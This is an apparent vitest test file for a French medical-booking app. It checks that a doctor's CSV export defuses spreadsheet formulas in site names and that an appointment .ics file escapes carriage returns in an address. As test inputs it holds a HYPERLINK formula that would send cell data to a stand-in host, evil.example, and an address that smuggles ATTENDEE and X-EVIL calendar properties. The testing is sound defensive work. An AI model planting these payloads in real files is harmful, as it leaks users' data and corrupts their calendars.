// Files a person downloads and opens elsewhere carry text others typed (a site's name, its address):
// the doctor's CSV must not hand a spreadsheet a formula, and the .ics must not let a carriage return
// start a calendar property of its own.
import { describe, expect, it } from 'vitest';
import { api } from './helpers/api';
import { Browser, csrfOf } from './helpers/browser';
import { newDoctor, newMission, newSite, newZone, randomRpps } from './helpers/fixtures';
import { sql } from './helpers/sql';
import { token } from './helpers/tokens';

const locationOf = (res: { headers: Headers }) => res.headers.get('location')!;

describe('the doctor’s indemnities CSV', () => {
  it('neutralises site names a spreadsheet would run as formulas', async () => {
    const now = new Date('2027-03-01T09:00:00Z');
    const client = api({ now });
    const rpps = randomRpps();
    const doctorToken = await token('doctor', { sub: `dr-${rpps}`, rpps });
    const names = ['=HYPERLINK("https://evil.example/?d="&A1,"Voir")', '@SUM(1;2)'];
    for (const [i, name] of names.entries()) {
      const zone = await newZone(client);
      const site = await newSite(client, zone, { name });
      await newMission(client, doctorToken, site.id, { date: `2027-03-0${2 + i}` });
    }
    const browser = new Browser(client);
    expect((await browser.signIn('/medecin', `rpps-${rpps}`, 'psc')).status).toBe(303);
    const csv = await browser.get('/medecin/indemnites.csv?mois=2027-03');
    expect(csv.status).toBe(200);
    const text = String(csv.body);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Voir"")"`);
    expect(text).toContain(`"'@SUM(1;2)"`);
    // No cell, quoted or not, starts with what a spreadsheet runs.
    for (const line of text.split('\r\n').filter(Boolean)) {
      for (const cell of line
        .match(/("([^"]|"")*"|[^,]*)(,|$)/g)!
        .map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))) {
        expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});

describe('the appointment’s .ics file', () => {
  it('escapes a carriage return in the site’s address, so it cannot start a property', async () => {
    const now = new Date('2026-12-07T08:00:00Z');
    const client = api({ now });
    const zone = await newZone(client);
    const site = await newSite(client, zone, {
      address: '1 place de la Mairie\rATTENDEE:mailto:evil@example.org\r\nX-EVIL:1',
    });
    const doctor = await newDoctor();
    const mission = await newMission(client, doctor.token, site.id, {
      date: '2026-12-10',
      start: '09:00',
      end: '09:20',
    });
    const [slot] = await sql<{ id: string }>(`SELECT id FROM slots WHERE mission_id = $1`, [mission.id]);

    const browser = new Browser(client);
    expect((await browser.signIn(`/reserver/${slot.id}`, 'fc-demo-3')).status).toBe(303);
    const csrf = csrfOf((await browser.get(`/reserver/${slot.id}`)).body)!;
    const held = await browser.post(`/reserver/${slot.id}`, { csrf });
    expect(held.status).toBe(303);
    const form = await browser.get(locationOf(held));
    const cle = /name="cle" value="([^"]+)"/.exec(form.body)![1];
    const lastName = `Ics-${Math.random().toString(36).slice(2, 8).replace(/[0-9]/g, 'x')}`;
    const booked = await browser.post(locationOf(held), {
      csrf,
      cle,
      who: 'moi',
      firstName: 'Zoé',
      lastName,
      birthDate: '15/11/1990',
      phone: '06 12 34 56 78',
      email: '',
    });
    expect(booked.status, booked.body).toBe(303);

    const ics = await browser.get(`${locationOf(booked)}/calendrier.ics`);
    expect(ics.status).toBe(200);
    const file = String(ics.body);
    // Every line break is the file's own CRLF; the address's breaks are escaped text.
    expect(file.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const properties = file
      .replace(/\r\n /g, '')
      .split('\r\n')
      .map((line) => line.split(/[:;]/)[0]);
    expect(properties).not.toContain('ATTENDEE');
    expect(properties).not.toContain('X-EVIL');
    expect(file.replace(/\r\n /g, '')).toContain('1 place de la Mairie\\nATTENDEE:mailto:evil@example.org\\nX-EVIL:1');
  });
});
